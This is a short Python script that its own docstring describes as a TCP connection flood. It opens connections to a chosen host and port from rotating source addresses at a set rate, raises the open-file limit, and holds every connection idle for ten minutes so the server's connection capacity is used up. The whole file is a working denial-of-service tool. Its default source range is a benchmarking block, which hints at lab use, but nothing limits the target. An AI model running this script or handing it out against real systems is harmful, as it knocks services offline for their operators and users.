"""Opens TCP connections from many addresses and holds them, sending nothing: a connection flood by tools that cannot forge."""

import argparse
import asyncio
import resource


async def hold(source, target, port, kept):
    try:
        kept.append(await asyncio.wait_for(asyncio.open_connection(target, port, local_addr=(source, 0)), 5))
    except (OSError, asyncio.TimeoutError):
        pass


async def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--to", required=True)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--sources", default="198.18.90.%d", help="pattern with one %%d or %%x")
    parser.add_argument("--hosts", type=int, default=60)
    parser.add_argument("--rate", type=float, required=True)
    parser.add_argument("--count", type=int, required=True)
    options = parser.parse_args()
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    kept, tasks = [], []
    for number in range(options.count):
        tasks.append(asyncio.ensure_future(hold(options.sources % (1 + number % options.hosts), options.to, options.port, kept)))
        await asyncio.sleep(1 / options.rate)
    await asyncio.gather(*tasks)
    print(f"holding {len(kept)}")
    await asyncio.sleep(600)


try:
    asyncio.run(main())
except KeyboardInterrupt:
    pass
